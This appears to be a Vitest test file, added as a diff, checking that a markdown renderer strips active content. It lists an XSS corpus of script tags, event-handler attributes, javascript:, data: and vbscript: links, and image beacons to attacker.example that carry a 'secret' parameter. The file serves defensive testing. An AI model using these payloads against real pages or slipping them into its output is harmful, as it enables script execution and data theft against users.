@@ -1,0 +1,80 @@
+// @vitest-environment happy-dom
+import { describe, expect, it } from 'vitest';
+import { renderMarkdownBlock, renderMarkdownToHtml } from './render-markdown';
+
+/** The corpus of security.md T27/T28 (and the mock provider's `xss` scenario). */
+const XSS_CORPUS = [
+  '<script>window.__pwned=1</script>',
+  '<img src=x onerror="window.__pwned=1">',
+  '[link](javascript:window.__pwned=1)',
+  '![a](https://attacker.example/p?d=secret)',
+  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
+  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+  '<a href="javascript:window.__pwned=1">click me</a>',
+  '[data link](data:text/html,<script>window.__pwned=1</script>)',
+  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
+  '$\\href{javascript:window.__pwned=1}{KaTeX link}$',
+  '<img src="https://attacker.example/beacon.png?d=secret">',
+  '[JaVaScRiPt](  JAVASCRIPT:alert(1))',
+  '<a href="https://ok.example" onclick="window.__pwned=1">ok</a>',
+  '[x](vbscript:msgbox(1))',
+];
+
+function parse(html: string): HTMLElement {
+  const container = document.createElement('div');
+  container.innerHTML = html;
+  return container;
+}
+
+describe('renderMarkdownToHtml: the XSS corpus', () => {
+  it.each(XSS_CORPUS)('renders %s without any active content', (payload) => {
+    const container = parse(renderMarkdownToHtml(payload));
+    expect(container.querySelectorAll('script, iframe, svg, math, img, style, object, embed, details, form, input')).toHaveLength(0);
+    for (const element of container.querySelectorAll('*')) {
+      for (const attribute of element.attributes) {
+        expect(attribute.name.startsWith('on')).toBe(false);
+        expect(attribute.value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
+      }
+    }
+    for (const link of container.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/i);
+  });
+
+  it('shows raw HTML as text rather than dropping it silently', () => {
+    expect(parse(renderMarkdownToHtml('<script>window.__pwned=1</script>')).textContent).toContain('<script>window.__pwned=1</script>');
+  });
+
+  it('never loads an image: it becomes a plain "[image removed]" note', () => {
+    const html = renderMarkdownToHtml('![a chart](https://attacker.example/p?d=secret)');
+    expect(html).not.toContain('attacker.example');
+    expect(parse(html).textContent).toContain('[image removed: a chart]');
+  });
+
+  it('keeps safe links, opening away from the app without opener or referrer', () => {
+    const link = parse(renderMarkdownToHtml('[docs](https://example.com/a?b=1) and <mailto:me@example.com>')).querySelector('a');
+    expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1');
+    expect(link?.getAttribute('target')).toBe('_blank');
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('drops a javascript: link but keeps its words', () => {
+    const container = parse(renderMarkdownToHtml('[click me](javascript:window.__pwned=1)'));
+    expect(container.querySelector('a')).toBeNull();
+    expect(container.textContent).toContain('click me');
+  });
+});
+
+describe('renderMarkdownBlock', () => {
+  it('renders ordinary Markdown', () => {
+    const [block] = renderMarkdownBlock('Some **bold** and `code` and a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |');
+    expect(block?.kind).toBe('html');
+    const container = parse(block?.kind === 'html' ? block.html : '');
+    expect(container.querySelector('strong')?.textContent).toBe('bold');
+    expect(container.querySelector('code')?.textContent).toBe('code');
+  });
+
+  it('hands code blocks out separately, as text, with their language', () => {
+    const blocks = renderMarkdownBlock('```ts\nconst a = "<script>";\n```');
+    expect(blocks).toEqual([{ kind: 'code', language: 'ts', code: 'const a = "<script>";' }]);
+  });
+});
